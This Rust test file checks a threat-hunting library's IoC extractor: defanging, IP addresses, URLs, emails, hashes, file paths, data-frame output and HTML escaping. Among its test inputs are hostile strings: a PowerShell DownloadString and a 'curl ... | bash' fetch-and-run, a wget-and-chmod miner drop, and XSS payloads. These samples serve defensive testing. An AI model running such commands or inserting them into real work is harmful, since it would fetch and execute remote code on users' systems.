//! IoC extraction through the public API, with exact expected values.

use huntbook::NotebookDisplay;
use huntbook::prelude::*;
use huntbook::transform::ioc::{
    CustomType, IocExtractor, IocType, defang, ioc_type_of, refang, validate,
};

/// (type, observable, refanged) of every match, in order.
fn found(x: &IocExtractor, text: &str) -> Vec<(String, String, String)> {
    x.extract_matches(text)
        .into_iter()
        .map(|m| (m.ioc_type.to_string(), m.observable, m.refanged))
        .collect()
}

fn t(ty: &str, obs: &str, refanged: &str) -> (String, String, String) {
    (ty.to_string(), obs.to_string(), refanged.to_string())
}

fn all() -> IocExtractor {
    IocExtractor::new().include_paths(true)
}

#[test]
fn every_defang_form() {
    let x = IocExtractor::new();
    let cases = [
        ("hxxp://evil[.]com/a", "http://evil.com/a"),
        ("hXXps://evil(.)com/a", "https://evil.com/a"),
        ("fxp://evil{.}com/a", "ftp://evil.com/a"),
        ("hxxps[:]//evil[dot]com/a", "https://evil.com/a"),
        ("hxxps[://]evil[.]com/a", "https://evil.com/a"),
        ("https://evil\\.com/a", "https://evil.com/a"),
    ];
    for (defanged, real) in cases {
        let urls = x.extract_refanged(defanged);
        assert_eq!(
            urls[&IocType::Url].iter().next().map(String::as_str),
            Some(real),
            "{defanged}"
        );
        assert_eq!(
            urls[&IocType::Dns].iter().next().map(String::as_str),
            Some("evil.com"),
            "{defanged}"
        );
        assert_eq!(refang(defanged), real);
    }
    assert_eq!(
        found(
            &x,
            "mail admin[at]evil[.]com, ops[@]evil(.)com and root (at) evil [dot] com"
        ),
        [
            t("email", "admin[at]evil[.]com", "admin@evil.com"),
            t("dns", "evil[.]com", "evil.com"),
            t("email", "ops[@]evil(.)com", "ops@evil.com"),
            t("dns", "evil(.)com", "evil.com"),
            t("email", "root (at) evil [dot] com", "root@evil.com"),
            t("dns", "evil [dot] com", "evil.com"),
        ]
    );
    assert_eq!(
        found(&x, "10[.]1(.)2{.}3"),
        [t("ipv4", "10[.]1(.)2{.}3", "10.1.2.3")]
    );
    // With defanged(false), none of these is recognised.
    let plain = IocExtractor::new().defanged(false);
    assert!(
        plain
            .extract("hxxp://evil[.]com/a admin[at]evil[.]com 10[.]1[.]2[.]3")
            .is_empty()
    );
}

#[test]
fn defang_and_refang_round_trip() {
    let text = "C2 at https://evil.com:8443/gate.php?id=1 (10.1.2.3), mail ops@evil.co.uk";
    let safe = defang(text);
    assert_eq!(
        safe,
        "C2 at hxxps://evil[.]com:8443/gate.php?id=1 (10[.]1[.]2[.]3), mail ops[at]evil[.]co[.]uk"
    );
    assert_eq!(refang(&safe), text);
}

#[test]
fn ipv4_octets_and_boundaries() {
    let x = IocExtractor::new();
    assert_eq!(
        found(
            &x,
            "999.999.999.999 256.1.1.1 1.2.3.4.5 v1.2.3.4 10.0.19041.1 0.0.0.0 255.255.255.255"
        ),
        [
            t("ipv4", "0.0.0.0", "0.0.0.0"),
            t("ipv4", "255.255.255.255", "255.255.255.255")
        ]
    );
    assert_eq!(
        found(&x, "src=192.168.001.010:443, dst 8.8.8.8."),
        [
            t("ipv4", "192.168.001.010", "192.168.1.10"),
            t("ipv4", "8.8.8.8", "8.8.8.8")
        ]
    );
    assert!(validate("255.255.255.255", &IocType::Ipv4));
    assert!(!validate("255.255.255.256", &IocType::Ipv4));
}

#[test]
fn ipv6_forms() {
    let x = IocExtractor::new();
    assert_eq!(
        found(
            &x,
            "a 2001:db8::1 b 2001:0DB8:0000:0000:0000:0000:0000:0001 c ::1"
        ),
        [
            t("ipv6", "2001:db8::1", "2001:db8::1"),
            t(
                "ipv6",
                "2001:0DB8:0000:0000:0000:0000:0000:0001",
                "2001:db8::1"
            ),
            t("ipv6", "::1", "::1"),
        ]
    );
    // Zone id: the address without it.
    assert_eq!(
        found(&x, "fe80::1ff:fe23:4567:890a%eth0"),
        [t(
            "ipv6",
            "fe80::1ff:fe23:4567:890a",
            "fe80::1ff:fe23:4567:890a"
        )]
    );
    // IPv4-mapped: the IPv4 address; other embedded IPv4: the IPv6 address.
    assert_eq!(
        found(&x, "::ffff:192.0.2.128"),
        [t("ipv4", "192.0.2.128", "192.0.2.128")]
    );
    assert_eq!(
        found(&x, "nat64 64:ff9b::192.0.2.33 ok"),
        [t("ipv6", "64:ff9b::192.0.2.33", "64:ff9b::c000:221")]
    );
    // Brackets and ports.
    assert_eq!(
        found(&x, "connect [2001:db8::1]:443"),
        [t("ipv6", "2001:db8::1", "2001:db8::1")]
    );
    // Not addresses: times, MACs, C++ scopes, the bare "::".
    assert!(found(&x, "08:00:07 00:1a:2b:3c:4d:5e std::string a :: b").is_empty());
}

#[test]
fn urls_with_ports_queries_fragments_and_idn() {
    let x = IocExtractor::new();
    assert_eq!(
        found(&x, "see (https://Example.COM:8443/a/b?x=1&y=2#frag). ok"),
        [
            t(
                "url",
                "https://Example.COM:8443/a/b?x=1&y=2#frag",
                "https://example.com:8443/a/b?x=1&y=2#frag"
            ),
            t("dns", "Example.COM", "example.com"),
        ]
    );
    assert_eq!(
        found(&x, "GET http://[2001:db8::1]:8080/path?q=1"),
        [
            t(
                "url",
                "http://[2001:db8::1]:8080/path?q=1",
                "http://[2001:db8::1]:8080/path?q=1"
            ),
            t("ipv6", "2001:db8::1", "2001:db8::1")
        ]
    );
    assert_eq!(
        found(&x, "http://müller.de/ä"),
        [
            t("url", "http://müller.de/ä", "http://müller.de/ä"),
            t("dns", "müller.de", "xn--mller-kva.de")
        ]
    );
    assert_eq!(
        found(
            &x,
            "DownloadString('http://10.0.0.5:8080/a.ps1'); curl -sk https://203.0.113.50/x.sh|bash"
        ),
        [
            t(
                "url",
                "http://10.0.0.5:8080/a.ps1",
                "http://10.0.0.5:8080/a.ps1"
            ),
            t("ipv4", "10.0.0.5", "10.0.0.5"),
            t(
                "url",
                "https://203.0.113.50/x.sh",
                "https://203.0.113.50/x.sh"
            ),
            t("ipv4", "203.0.113.50", "203.0.113.50"),
        ]
    );
    // Percent-encoded: reported as found and decoded, and the URL inside.
    let m = x.extract("https://example.com/r?u=%68%74%74%70%3A%2F%2Fevil.com%2Fx");
    assert_eq!(
        m[&IocType::Url]
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
        [
            "http://evil.com/x",
            "https://example.com/r?u=%68%74%74%70%3A%2F%2Fevil.com%2Fx",
            "https://example.com/r?u=http://evil.com/x",
        ]
    );
    assert_eq!(
        m[&IocType::Dns]
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
        ["evil.com", "example.com"]
    );
    // A host that is not a public domain is a hostname.
    assert_eq!(
        found(&x, "file://fileserver01/share/x http://intranet.corp/"),
        [
            t(
                "url",
                "file://fileserver01/share/x",
                "file://fileserver01/share/x"
            ),
            t("hostname", "fileserver01", "fileserver01"),
            t("url", "http://intranet.corp/", "http://intranet.corp/"),
            t("hostname", "intranet.corp", "intranet.corp"),
        ]
    );
}

#[test]
fn emails() {
    let x = IocExtractor::new();
    assert_eq!(
        found(&x, "first.last+tag@Sub.Example.co.uk bad@local a@b.c"),
        [
            t(
                "email",
                "first.last+tag@Sub.Example.co.uk",
                "first.last+tag@sub.example.co.uk"
            ),
            t("dns", "Sub.Example.co.uk", "sub.example.co.uk")
        ]
    );
    // Credentials in a URL are not an email; a name with "at" in it is not one (MSTICPy #681).
    let m = x.extract("ftp://user:pass@ftp.example.org/x updates.batch.com cat.atlas.com");
    assert!(!m.contains_key(&IocType::Email));
    assert_eq!(
        m[&IocType::Dns]
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
        ["cat.atlas.com", "ftp.example.org", "updates.batch.com"]
    );
}

#[test]
fn hashes_inside_paths_and_next_to_hex() {
    let x = all();
    assert_eq!(
        found(
            &x,
            "C:\\Windows\\Temp\\d41d8cd98f00b204e9800998ecf8427e\\dropper.exe"
        ),
        [
            t(
                "windows_path",
                "C:\\Windows\\Temp\\d41d8cd98f00b204e9800998ecf8427e\\dropper.exe",
                "C:\\Windows\\Temp\\d41d8cd98f00b204e9800998ecf8427e\\dropper.exe"
            ),
            t(
                "md5_hash",
                "d41d8cd98f00b204e9800998ecf8427e",
                "d41d8cd98f00b204e9800998ecf8427e"
            ),
        ]
    );
    assert_eq!(
        found(&x, "/tmp/DA39A3EE5E6B4B0D3255BFEF95601890AFD80709.bin"),
        [
            t(
                "linux_path",
                "/tmp/DA39A3EE5E6B4B0D3255BFEF95601890AFD80709.bin",
                "/tmp/DA39A3EE5E6B4B0D3255BFEF95601890AFD80709.bin"
            ),
            t(
                "sha1_hash",
                "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
                "da39a3ee5e6b4b0d3255bfef95601890afd80709"
            ),
        ]
    );
    // 33 hex digits, 104 hex digits (a SHA-256 glued to a SHA-1), all digits: no hash.
    assert!(x.extract("d41d8cd98f00b204e9800998ecf8427ea").is_empty());
    assert!(
        x.extract(&format!(
            "{}{}",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709"
        ))
        .is_empty()
    );
    assert!(x.extract("12345678901234567890123456789012").is_empty());
    assert_eq!(
        found(
            &x,
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855;"
        ),
        [t(
            "sha256_hash",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        )]
    );
}

#[test]
fn windows_unc_drive_and_relative_paths() {
    let x = IocExtractor::new().types([IocType::WindowsPath]);
    let paths = |s: &str| -> Vec<String> {
        x.extract_matches(s)
            .into_iter()
            .map(|m| m.observable)
            .collect()
    };
    assert_eq!(
        paths("\"C:\\Program Files (x86)\\Vendor App\\bin\\app.exe\" -c C:\\ProgramData\\cfg.ini,"),
        [
            "C:\\Program Files (x86)\\Vendor App\\bin\\app.exe",
            "C:\\ProgramData\\cfg.ini"
        ]
    );
    assert_eq!(
        paths("\\\\fileserver01\\share$\\dir\\file.txt"),
        ["\\\\fileserver01\\share$\\dir\\file.txt"]
    );
    assert_eq!(
        paths(".\\relative\\tool.bat and ..\\up\\x.dll"),
        [".\\relative\\tool.bat", "..\\up\\x.dll"]
    );
    assert_eq!(
        paths("c:/windows/system32/cmd.exe"),
        ["c:/windows/system32/cmd.exe"]
    );
    assert_eq!(
        paths("%SystemRoot%\\System32\\evil.dll"),
        ["%SystemRoot%\\System32\\evil.dll"]
    );
    assert!(paths("ratio 3:\\ no").is_empty());
}

#[test]
fn linux_paths() {
    let x = IocExtractor::new().types([IocType::LinuxPath]);
    let paths = |s: &str| -> Vec<String> {
        x.extract_matches(s)
            .into_iter()
            .map(|m| m.observable)
            .collect()
    };
    assert_eq!(
        paths("/etc/passwd /usr/local/bin/python3.11 /var/log/nginx/access.log.1"),
        [
            "/etc/passwd",
            "/usr/local/bin/python3.11",
            "/var/log/nginx/access.log.1"
        ]
    );
    assert_eq!(
        paths("~/.bashrc ./configure --prefix=/opt/x"),
        ["~/.bashrc", "./configure", "/opt/x"]
    );
    assert_eq!(
        paths("wget x -O /var/tmp/.cache/miner; chmod +x /dev/shm/.s"),
        ["/var/tmp/.cache/miner", "/dev/shm/.s"]
    );
    assert!(paths("TCP_MISS/200 text/html 2024/03/04 https://a.com/b/c /x").is_empty());
}

#[test]
fn file_names_are_not_domains() {
    let x = IocExtractor::new();
    let dns = |s: &str| {
        x.extract(s)
            .get(&IocType::Dns)
            .cloned()
            .unwrap_or_default()
            .into_iter()
            .collect::<Vec<_>>()
    };
    assert_eq!(
        dns("readme.md script.py setup.zip app.mov install.sh foo.bar"),
        ["foo.bar"]
    );
    assert_eq!(
        dns("C:\\x\\report.com /tmp/evil.com/x"),
        Vec::<String>::new()
    );
    // In a host position the suffix decides.
    assert_eq!(dns("http://setup.zip/x"), ["setup.zip"]);
    assert!(x.extract("config.local build.internal")[&IocType::Hostname].contains("config.local"));
    assert_eq!(dns("report.final notes.txt"), ["report.final"]);
    let loose = IocExtractor::new().ignore_tlds(true);
    assert!(loose.extract("notes.txt")[&IocType::Dns].contains("notes.txt"));
}

#[test]
fn priority_and_custom_types() {
    // A custom type with a higher priority takes a string from dns.
    let x = IocExtractor::new()
        .add_type(
            CustomType::new("c2_domain", r"\bevil\.com\b")
                .unwrap()
                .priority(0),
        )
        .unwrap();
    assert_eq!(
        found(&x, "evil.com"),
        [t("c2_domain", "evil.com", "evil.com")]
    );
    // With a lower priority, dns keeps it.
    let x = IocExtractor::new()
        .add_type(
            CustomType::new("c2_domain", r"\bevil\.com\b")
                .unwrap()
                .priority(9),
        )
        .unwrap();
    assert_eq!(found(&x, "evil.com"), [t("dns", "evil.com", "evil.com")]);
    // Restricting types.
    let x = IocExtractor::new().types([IocType::Ipv4]);
    assert_eq!(
        found(&x, "1.2.3.4 evil.com"),
        [t("ipv4", "1.2.3.4", "1.2.3.4")]
    );
    // Errors.
    assert_eq!(
        IocExtractor::new()
            .add_type(CustomType::new("dns", "x").unwrap())
            .unwrap_err()
            .to_string(),
        "invalid custom IoC type 'dns': a type with that name already exists"
    );
    assert!(
        CustomType::new("bad", "(")
            .unwrap_err()
            .to_string()
            .starts_with("invalid regex of IoC type 'bad':")
    );
    assert_eq!(
        "nope".parse::<IocType>().unwrap_err().to_string(),
        "invalid IoC type 'nope': expected one of ipv4, ipv6, dns, url, email, md5_hash, sha1_hash, sha256_hash, windows_path, linux_path, hostname"
    );
}

#[test]
fn validate_and_type_of() {
    assert!(validate("hxxp://evil[.]com/a", &IocType::Url));
    assert!(!validate("hxxp://evil[.]com/a", &IocType::Dns));
    assert!(validate("a[at]b[.]com", &IocType::Email));
    assert!(validate("fileserver01", &IocType::Hostname));
    assert!(!validate("not a host", &IocType::Hostname));
    assert_eq!(ioc_type_of("8.8.8.8"), Some(IocType::Ipv4));
    assert_eq!(ioc_type_of("evil[.]com"), Some(IocType::Dns));
    assert_eq!(ioc_type_of("/etc/passwd"), Some(IocType::LinuxPath));
    assert_eq!(
        ioc_type_of("d41d8cd98f00b204e9800998ecf8427e"),
        Some(IocType::Md5Hash)
    );
    assert_eq!(ioc_type_of("evil.com and more"), None);
    assert_eq!(
        IocType::file_hash_type("da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        Some(IocType::Sha1Hash)
    );
}

#[test]
fn garbage_binary_huge_and_empty() {
    let x = all();
    let bytes: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
    let text = String::from_utf8_lossy(&bytes);
    let _ = x.extract(&text);
    assert!(x.extract("").is_empty());
    assert!(x.extract("   \t\n").is_empty());
    // A 10 MB single line: bounded work, the right answer.
    let mut line = "x".repeat(10 << 20);
    line.push_str(" http://evil.com/");
    let m = x.extract(&line);
    assert_eq!(
        m[&IocType::Url].iter().collect::<Vec<_>>(),
        ["http://evil.com/"]
    );
    // Hostile repetition.
    let nasty = "http://".repeat(200_000) + &"[.]a".repeat(200_000) + &"::".repeat(100_000);
    let _ = x.extract(&nasty);
    let at = "a@".repeat(300_000);
    let _ = x.extract(&at);
}

#[test]
fn data_frames() {
    let df = df!(
        "CommandLine" => [Some("curl hxxp://evil[.]com/x.sh"), None, Some("ping 10.0.0.1")],
        "Parent" => [Some("cmd.exe /c evil.com"), Some("8.8.8.8"), None],
    )
    .unwrap();
    let r = IocExtractor::new()
        .extract_df(&df, &["CommandLine", "Parent"])
        .unwrap();
    let out = r.df();
    let col = |n: &str| -> Vec<String> {
        out.column(n)
            .unwrap()
            .cast(&DataType::String)
            .unwrap()
            .str()
            .unwrap()
            .iter()
            .map(|v| v.unwrap_or("").to_string())
            .collect()
    };
    assert_eq!(col("IoCType"), ["url", "dns", "dns", "ipv4", "ipv4"]);
    assert_eq!(
        col("Observable"),
        [
            "hxxp://evil[.]com/x.sh",
            "evil[.]com",
            "evil.com",
            "8.8.8.8",
            "10.0.0.1"
        ]
    );
    assert_eq!(
        col("Refanged"),
        [
            "http://evil.com/x.sh",
            "evil.com",
            "evil.com",
            "8.8.8.8",
            "10.0.0.1"
        ]
    );
    assert_eq!(col("SourceIndex"), ["0", "0", "0", "1", "2"]);
    assert_eq!(
        col("SourceColumn"),
        [
            "CommandLine",
            "CommandLine",
            "Parent",
            "Parent",
            "CommandLine"
        ]
    );
    assert_eq!(col("Input")[3], "8.8.8.8");
    let counts = r.counts_by_type().unwrap();
    assert_eq!(
        counts.column("IoCType").unwrap().str().unwrap().get(0),
        Some("dns")
    );
    // Empty frame, missing column.
    let empty = df!("CommandLine" => Vec::<String>::new()).unwrap();
    let r = IocExtractor::new()
        .extract_df(&empty, &["CommandLine"])
        .unwrap();
    assert_eq!(r.len(), 0);
    assert_eq!(r.df().width(), 6);
    let err = IocExtractor::new()
        .extract_df(&empty, &["Nope"])
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "column 'Nope' not found in the input frame with columns [CommandLine]"
    );
}

#[test]
fn display_escapes_hostile_input() {
    let df = df!("x" => ["<script>alert(1)</script> http://evil.com/<img src=x onerror=alert(1)>"])
        .unwrap();
    let r = IocExtractor::new().extract_df(&df, &["x"]).unwrap();
    let html = r.to_html();
    assert!(!html.contains("<script>"));
    assert!(!html.contains("<img"));
    assert!(html.contains("&lt;script&gt;"));
    assert!(r.to_text().starts_with("2 observables: dns 1, url 1"));
}

#[test]
fn hashes_found_at_every_offset_and_only_as_whole_runs() {
    // The hash scanner skips ahead 32 bytes at a time; a hash must be found
    // wherever it sits, and a longer or touching hex run never matches.
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let ex = IocExtractor::new().types([IocType::Md5Hash]);
    for pad in 0..70 {
        for filler in ["x", "ab ", "0.", " ", "9f"] {
            // "9f" repeated is a long hex run, broken by the space before the hash.
            let prefix = filler.repeat(pad);
            let text = format!("{prefix} {md5} tail");
            let got = ex.extract(&text);
            let hashes: Vec<&String> = got.get(&IocType::Md5Hash).into_iter().flatten().collect();
            // A 32-digit "9f9f…" prefix is itself an MD5-shaped hash.
            let mut expected = vec![md5.to_string()];
            if filler == "9f" && prefix.len() == 32 {
                expected.push(prefix.clone());
            }
            expected.sort();
            assert_eq!(
                hashes,
                expected.iter().collect::<Vec<_>>(),
                "pad {pad} filler {filler:?}"
            );
            // Touching hex on either side: a 33-digit run is not a hash.
            for touching in [format!("{prefix} a{md5} tail"), format!("{prefix} {md5}f")] {
                let got = ex.extract(&touching);
                assert!(
                    got.get(&IocType::Md5Hash).is_none_or(|h| !h.contains(md5)),
                    "pad {pad} filler {filler:?}"
                );
            }
        }
    }
}
